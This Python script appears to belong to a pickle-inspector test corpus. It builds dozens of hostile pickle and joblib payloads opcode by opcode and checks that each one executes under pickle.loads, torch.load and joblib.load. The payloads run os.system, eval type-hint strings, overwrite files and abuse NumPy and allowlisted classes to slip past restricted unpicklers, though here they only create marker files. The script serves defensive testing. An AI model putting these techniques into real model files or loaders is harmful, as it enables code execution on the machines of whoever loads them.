"""Hostile pickles for issue 26 (items 2-5), built from scratch, opcode by opcode.

Each payload writes a marker under ``MARKERS`` when a real loader loads it. This script writes
every payload to ``attacks/`` and then loads each one with the real loaders, each in a fresh
subprocess of the producer Python (``pickle.loads`` and ``torch.load(weights_only=False)``), and
records in ``attacks.truth.json`` whether the marker appeared: the payloads are live, not duds.
Run with the torch venv::

    /work/venvs/torch/bin/python tests/corpus/pickle/make_attacks.py

Classes (variants of each, not one instance):

* ``error_*``: something the restricted reader refuses (``bytearray(int)``, a huge PUT index, an
  odd ``_codecs.encode``, ``bytes(int)``) and then ``os.system``, protocols 0, 2, 4, and in a
  joblib stream (plain and zlib) written by ``joblib.dump`` itself;
* ``ctor_*``: NumPy's pickling helpers calling their argument (``__randomstate_ctor(obj,
  typing.get_type_hints)``, ``__generator_ctor``, ``__bit_generator_ctor(cls)``);
* ``class_*``: a class built inside the pickle (``abc.ABCMeta``, ``typing._ProtocolMeta``, by
  ``copyreg.__newobj__`` or NEWOBJ) whose special method is ``typing.get_type_hints``, then a
  builtin that calls that method (range, len, hash, repr, str, format, abs, int, bool, iter);
* ``patch_*``: a BUILD on an allowlisted class (``fractions.Fraction``, ``pathlib.PurePosixPath``)
  setting ``__index__``/``__len__``/``__hash__`` and ``__annotations__``, then the builtin;
* ``io_*``: classes only constructed whose methods the unpickler calls: ``mailbox.MH``
  SETITEM(S) overwrites a chosen file, ``dbm.dumb._Database`` writes files in ``__del__``;
* ``eval_*``: ``typing.get_type_hints`` / ``typing._eval_type`` on strings.
"""

from __future__ import annotations

import json
import os
import shutil
import struct
import subprocess
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
OUT = HERE / "attacks"
MARKERS = Path("/tmp/inspector-pickle-attacks")  # every marker lives here (never in the repo)

# -- protocol 2 opcodes -----------------------------------------------------------------------
PROTO2, PROTO4 = b"\x80\x02", b"\x80\x04"
MARK, STOP, REDUCE, BUILD, NEWOBJ = b"(", b".", b"R", b"b", b"\x81"
TUPLE, EMPTY_TUPLE, EMPTY_DICT, SETITEM, SETITEMS = b"t", b")", b"}", b"s", b"u"
NONE, POP = b"N", b"0"


def g(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def s(text: str) -> bytes:
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def i(n: int) -> bytes:
    return b"J" + struct.pack("<i", n)


def tup(*items: bytes) -> bytes:
    return MARK + b"".join(items) + TUPLE


def dct(*pairs: tuple[bytes, bytes]) -> bytes:
    return EMPTY_DICT + (MARK + b"".join(k + v for k, v in pairs) + SETITEMS if pairs else b"")


def call(func: bytes, *args: bytes) -> bytes:
    return func + tup(*args) + REDUCE


def p2(body: bytes) -> bytes:
    """A protocol 2 pickle whose value is ``body`` (its result popped: the payload ran)."""
    return PROTO2 + body + POP + NONE + STOP


def touch(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def shell(marker: Path) -> bytes:
    return call(g("os", "system"), s(f"touch {marker}"))


def annotated(code: str) -> bytes:
    """An object whose ``__annotations__`` holds ``code`` (an argparse.Namespace)."""
    return (g("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ
            + dct((s("__annotations__"), dct((s("a"), s(code))))) + BUILD)


# -- the payloads ---------------------------------------------------------------------------------
def error_payloads(m: Path) -> dict[str, bytes]:
    cmd = f"touch {m}".encode()
    p0_bytearray = (b"c__builtin__\nbytearray\n(I10\ntR" + b"p0\n0"
                    + b"cos\nsystem\n(V" + cmd + b"\ntR.")
    p0_put = b"I1\np1000000000\n0cos\nsystem\n(V" + cmd + b"\ntR."
    return {
        "error_p0_bytearray_then_system.pkl": p0_bytearray,
        "error_p0_huge_put_then_system.pkl": p0_put,
        "error_p2_bytearray_then_system.pkl": p2(
            call(g("__builtin__", "bytearray"), i(10)) + POP + shell(m)),
        "error_p2_huge_put_then_system.pkl": p2(
            i(1) + b"r" + struct.pack("<I", 1_000_000_000) + POP + shell(m)),
        "error_p2_codecs_then_system.pkl": p2(
            call(g("_codecs", "encode"), s("abc"), s("rot13")) + POP + shell(m)),
        "error_p2_bytes_then_system.pkl": p2(
            call(g("builtins", "bytes"), i(16)) + POP + shell(m)),
        # protocol 4: the os/system strings memoized first, fetched by BINGET before STACK_GLOBAL
        "error_p4_memo_names_then_system.pkl": (
            PROTO4 + b"\x8c\x02os\x94\x8c\x06system\x94" + b"0" + b"0"
            + call(g("builtins", "bytearray"), i(8)) + POP
            + b"h\x00h\x01\x93" + s(f"touch {m}") + b"\x85" + REDUCE + STOP),
    }


def ctor_payloads(m: Path) -> dict[str, bytes]:
    hints = g("typing", "get_type_hints")
    nr = "numpy.random._pickle"
    return {
        "ctor_randomstate_get_type_hints.pkl": p2(
            call(g(nr, "__randomstate_ctor"), annotated(touch(m)), hints)),
        "ctor_generator_get_type_hints.pkl": p2(
            call(g(nr, "__generator_ctor"), annotated(touch(m)), hints)),
        "ctor_randomstate_system.pkl": p2(
            call(g(nr, "__randomstate_ctor"), s(f"touch {m}"), g("os", "system"))),
        # TemporaryDirectory() under TMPDIR=the marker directory (kept: the loaded value)
        "ctor_bit_generator_tempdir.pkl": PROTO2 + call(
            g(nr, "__bit_generator_ctor"), g("tempfile", "TemporaryDirectory")) + STOP,
    }


DUNDER_BUILTINS = {  # builtin -> the special method it calls on its argument
    "range": "__index__", "len": "__len__", "hash": "__hash__", "repr": "__repr__",
    "str": "__str__", "abs": "__abs__", "int": "__int__",
    "bool": "__bool__", "iter": "__iter__",
}  # fmt: skip


def class_payloads(m: Path) -> dict[str, bytes]:
    out = {}
    hints = g("typing", "get_type_hints")
    metas = {"abcmeta": ("abc", "ABCMeta"), "protocolmeta": ("typing", "_ProtocolMeta")}
    for meta_tag, meta in metas.items():
        for how in ("newobj_func", "newobj_op"):
            for builtin, method in DUNDER_BUILTINS.items():
                ns = dct((s(method), hints))
                args = (s("Built"), tup(g("builtins", "object")), ns)
                if how == "newobj_func":
                    klass = call(g("copyreg", "__newobj__"), g(*meta), *args)
                    inst = call(g("copyreg", "__newobj__"), klass)
                else:
                    klass = g(*meta) + tup(*args) + NEWOBJ
                    inst = klass + EMPTY_TUPLE + NEWOBJ
                inst += dct((s("__annotations__"), dct((s("a"), s(touch(m)))))) + BUILD
                name = f"class_{meta_tag}_{how}_{builtin}.pkl"
                out[name] = p2(call(g("builtins", builtin), inst))
    return out


def patch_payloads(m: Path) -> dict[str, bytes]:
    out = {}
    hints = g("typing", "get_type_hints")
    notes = dct((s("a"), s(touch(m))))
    targets = {
        "fraction": (("fractions", "Fraction"), i(1)),
        "purepath": (("pathlib", "PurePosixPath"), s("x")),
    }
    for tag, (cls, arg) in targets.items():
        for builtin in ("range", "len", "hash"):
            method = DUNDER_BUILTINS[builtin]
            patch = g(*cls) + tup(NONE, dct((s(method), hints), (s("__annotations__"), notes))) \
                + BUILD + POP
            out[f"patch_{tag}_{method.strip('_')}_{builtin}.pkl"] = p2(
                patch + call(g("builtins", builtin), call(g(*cls), arg)))
    return out


def io_payloads(m: Path) -> dict[str, bytes]:
    state = dct((s("_path"), s("/")), (s("_factory"), NONE), (s("_locked"), b"\x89"))
    mh_new = g("mailbox", "MH") + EMPTY_TUPLE + NEWOBJ + state + BUILD
    mh_p0 = (b"ccopy_reg\n_reconstructor\n(cmailbox\nMH\nc__builtin__\nobject\nNtR"
             + b"(dV_path\nV/\nsV_factory\nNsV_locked\nI00\nsb"
             + b"V" + str(m).encode() + b"\nVPWNED\ns.")
    db_state = dct((s("_index"), EMPTY_DICT), (s("_modified"), b"\x88"),
                   (s("_dirfile"), s(str(m))), (s("_bakfile"), s(f"{m}.bak")),
                   (s("_datfile"), s(f"{m}.dat")), (s("_mode"), i(0o644)),
                   (s("_readonly"), b"\x89"))
    return {
        "io_mailbox_mh_setitem_p2.pkl": p2(mh_new + s(str(m)) + s("PWNED") + SETITEM),
        "io_mailbox_mh_setitems_p2.pkl": p2(mh_new + MARK + s(str(m)) + s("PWNED") + SETITEMS),
        "io_mailbox_mh_setitem_p0.pkl": mh_p0,
        "io_dbm_dumb_del_p2.pkl": PROTO2 + g("dbm.dumb", "_Database") + EMPTY_TUPLE + NEWOBJ
        + db_state + BUILD + STOP,
        "io_dbm_dumb_del_newobj_func.pkl": PROTO2 + call(g("copyreg", "__newobj__"),
                                                         g("dbm.dumb", "_Database"))
        + db_state + BUILD + STOP,
    }


def eval_payloads(m: Path) -> dict[str, bytes]:
    ref = call(g("typing", "ForwardRef"), s(touch(m)))
    return {
        "eval_get_type_hints.pkl": p2(call(g("typing", "get_type_hints"), annotated(touch(m)))),
        "eval_eval_type.pkl": p2(call(g("typing", "_eval_type"), ref, EMPTY_DICT, EMPTY_DICT)),
    }


class _Reduce:
    """An object that pickles as ``func(*args)`` (its ``__reduce__``)."""

    def __init__(self, func: object, *args: object) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple:
        return self.func, self.args


def joblib_payloads(m: Path) -> dict[str, bytes]:
    """joblib.dump itself writes them: arrays' raw bytes between the opcodes, then a refused
    ``bytearray(10)`` and ``os.system`` (compressed too)."""
    import io as _io

    import joblib
    import numpy as np

    out = {}
    value = {"w": np.arange(6, dtype="float32"), "objs": np.array([1, "a"], dtype=object),
             "pad": _Reduce(bytearray, 10), "evil": _Reduce(os.system, f"touch {m}")}
    for tag, compress in (("", 0), ("_zlib", 3)):
        buf = _io.BytesIO()
        joblib.dump(value, buf, compress=compress)
        out[f"error_joblib{tag}_bytearray_then_system.joblib"] = buf.getvalue()
    return out


BUILDERS = (error_payloads, ctor_payloads, class_payloads, patch_payloads, io_payloads,
            eval_payloads, joblib_payloads)

# -- the real loaders -----------------------------------------------------------------------------
LOADERS = {
    "pickle.loads": "import pickle,sys; x = pickle.loads(open(sys.argv[1],'rb').read())",
    "torch.load(weights_only=False)":
        "import torch,sys; x = torch.load(sys.argv[1], weights_only=False)",
    "joblib.load": "import joblib,sys; x = joblib.load(sys.argv[1])",
}


def loaders_for(name: str) -> list[str]:
    return ["joblib.load"] if name.endswith(".joblib") else ["pickle.loads",
                                                             "torch.load(weights_only=False)"]


def marker_for(name: str) -> Path:
    return MARKERS / name.rsplit(".", 1)[0]


def ran(path: Path, marker: Path, loader: str) -> bool:
    """Load ``path`` with ``loader`` in a fresh process; did the payload leave its mark?"""
    shutil.rmtree(marker, ignore_errors=True) if marker.is_dir() else marker.unlink(
        missing_ok=True)
    mailbox = path.name.startswith("io_mailbox")
    if mailbox:
        marker.write_text("original")  # MH.__setitem__ overwrites an existing file
    tempdir = path.name.startswith("ctor_bit_generator")
    env = dict(os.environ)
    if tempdir:
        marker.mkdir()
        env["TMPDIR"] = str(marker)
    check = (f"\nimport os; print('MARK', bool(os.listdir({str(marker)!r})))" if tempdir
             else "")
    proc = subprocess.run([sys.executable, "-c", LOADERS[loader] + check, str(path)],
                          capture_output=True, text=True, timeout=120, env=env)
    if tempdir:
        shutil.rmtree(marker, ignore_errors=True)
        return "MARK True" in proc.stdout
    result = marker.exists() and (not mailbox or marker.read_text() != "original")
    marker.unlink(missing_ok=True)
    for extra in (".bak", ".dat"):
        Path(f"{marker}{extra}").unlink(missing_ok=True)
    return result


def main(only: list[str]) -> None:
    """Write every payload; load those named in ``only`` (all when empty) with the loaders."""
    MARKERS.mkdir(parents=True, exist_ok=True)
    truth_path = HERE / "attacks.truth.json"
    old = json.loads(truth_path.read_text())["files"] if only and truth_path.exists() else {}
    shutil.rmtree(OUT, ignore_errors=True)
    OUT.mkdir()
    files: dict[str, dict] = {}
    for build in BUILDERS:
        for name in build(Path("MARKER")):
            data = build(marker_for(name))[name]
            path = OUT / name
            path.write_bytes(data)
            if only and name not in only and name in old:
                files[name] = old[name]
                continue
            files[name] = {"marker": str(marker_for(name)),
                           "ran": {loader: ran(path, marker_for(name), loader)
                                   for loader in loaders_for(name)}}
            print(name, files[name]["ran"])
    import torch

    truth_path.write_text(json.dumps(
        {"producers": {"python": sys.version.split()[0], "torch": torch.__version__},
         "files": files}, indent=1) + "\n")


if __name__ == "__main__":
    main(sys.argv[1:])
